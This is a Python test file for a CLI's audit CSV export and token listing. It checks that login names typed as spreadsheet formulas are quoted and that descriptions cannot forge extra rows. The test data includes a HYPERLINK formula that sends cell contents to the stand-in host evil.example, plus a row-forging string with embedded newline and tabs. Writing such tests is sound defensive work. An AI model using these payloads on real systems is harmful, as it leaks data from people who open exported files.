"""``tilsit audit export --format csv`` never hands a spreadsheet a formula.

Anyone can put text of their choosing into the audit log: a failed login
records the user name as typed. An administrator opening the CSV export in a
spreadsheet must see that text, not run it (OWASP's CSV-injection guidance).
"""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest

from tests.conftest import LiveServer, run_cli
from tilsit.auth.audit_query import spreadsheet_cell
from tilsit.auth.tokens import create_token
from tilsit.config import Settings
from tilsit.db.engine import Database
from tilsit.index.manage import get_user
from tilsit.instance import Instance

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("alice", "alice"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_cells_that_would_be_formulas_are_quoted(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def _failed_login(base: str, name: str) -> None:
    # The live server runs with Secure cookies; localhost-only tests speak plain HTTP,
    # so the CSRF token's session cookie is carried by hand.
    with httpx.Client(base_url=base) as http:
        page = http.get("/account/login")
        cookie = page.headers["set-cookie"].split(";", 1)[0]
        token = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        response = http.post(
            "/account/login",
            data={"name": name, "password": "not the password", "csrf_token": token},
            headers={"cookie": cookie},
        )
        assert response.status_code in (200, 400, 401, 403)


def test_a_login_name_typed_as_a_formula_is_text_in_the_csv(live_server: LiveServer) -> None:
    _failed_login(live_server.url, FORMULA)
    settings = live_server.settings
    out = run_cli(settings, "audit", "export", "--action", "login.failed", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert [row["actor"] for row in rows] == ["'" + FORMULA]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # JSON lines are for programs, not spreadsheets: the text stays as it was typed.
    lines = run_cli(settings, "audit", "export", "--action", "login.failed").stdout
    assert [json.loads(line)["actor"] for line in lines.splitlines()] == [FORMULA]


def test_token_list_keeps_a_description_in_its_own_cell(
    settings: Settings, instance: Instance
) -> None:
    """The tab-separated ``token list`` is the sibling: a description with a newline and
    tabs (the web form keeps inner ones) must not forge a row of its own."""
    run_cli(settings, "user", "create", "alice")
    forged = "ci\n999\ttilsit-FORGED\tindex=*\t2026-01-01"
    db = Database(settings.db_url)
    try:
        with db.write() as session:
            create_token(session, get_user(session, "alice"), description=forged)
    finally:
        db.dispose()
    lines = run_cli(settings, "token", "list", "--user", "alice").stdout.splitlines()
    assert len(lines) == 2  # the header and the one token
    assert lines[1].split("\t")[-1] == "ci\\n999\\ttilsit-FORGED\\tindex=*\\t2026-01-01"
